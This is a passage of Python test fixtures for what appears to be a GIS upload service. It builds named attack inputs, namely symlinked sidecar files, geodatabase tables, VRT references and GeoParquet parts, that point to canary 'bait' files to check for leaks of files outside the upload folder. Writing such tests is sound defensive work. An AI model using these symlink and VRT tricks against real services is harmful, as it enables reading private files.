            bait.file(f"x{suffix}", content.replace(b"OWN-1", b"CANAR"))
        )
        return path

    ATTACKS[f"MapInfo: {_suffix} is a link"] = _tab_linked


for _suffix in (".csvt", ".prj"):

    def _beside_csv(folder: Path, bait: Canary, suffix: str = _suffix) -> Path:
        rows = [f'{name},"{lot.wkt}"' for name, lot in zip(OWN, LOTS, strict=True)]
        path = _saved(folder / "lots.csv", "\n".join(["APN,WKT", *rows]))
        path.with_suffix(suffix).symlink_to(bait.file(f"x{suffix}", "CANARY-7F3A"))
        return path

    ATTACKS[f"CSV: {_suffix} is a link"] = _beside_csv


@_attack("geodatabase: a table is a link")
def _(folder: Path, bait: Canary) -> Path:
    path = write(folder / "lots.gdb", driver="OpenFileGDB")
    table = path / "a00000004.gdbtable"
    kept = bait.file("x.gdbtable", table.read_bytes())
    table.unlink()
    table.symlink_to(kept)
    return path


@_attack("geodatabase: a vrt as a table")
def _(folder: Path, bait: Canary) -> Path:
    path = write(folder / "lots.gdb", driver="OpenFileGDB")
    (path / "a00000001.gdbtable").write_text(ogr_vrt(_both(bait)[0]))
    return path


@_attack("folder named .gdb with a vrt")
def _(folder: Path, bait: Canary) -> Path:
    (folder / "lots.gdb").mkdir()
    _saved(folder / "lots.gdb" / "lots.vrt", ogr_vrt(_both(bait)[1]))
    return folder / "lots.gdb"


@_attack("GeoParquet dataset: a part is a link")
def _(folder: Path, bait: Canary) -> Path:
    (folder / "in").mkdir()
    frame().to_parquet(folder / "in" / "a.parquet")
    frame().to_parquet(bait.folder / "b.parquet")
    (folder / "in" / "b.parquet").symlink_to(bait.folder / "b.parquet")
    bait.forget()
    return folder / "in"


def zip_of(path: Path, name: str = "lots.zip") -> Path:
    """A zip with the files beside a path that share its stem."""
    target = path.parent / name
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in sorted(path.parent.iterdir()):
            if file.is_file() and file != target:
                archive.write(file, file.name)
    return target
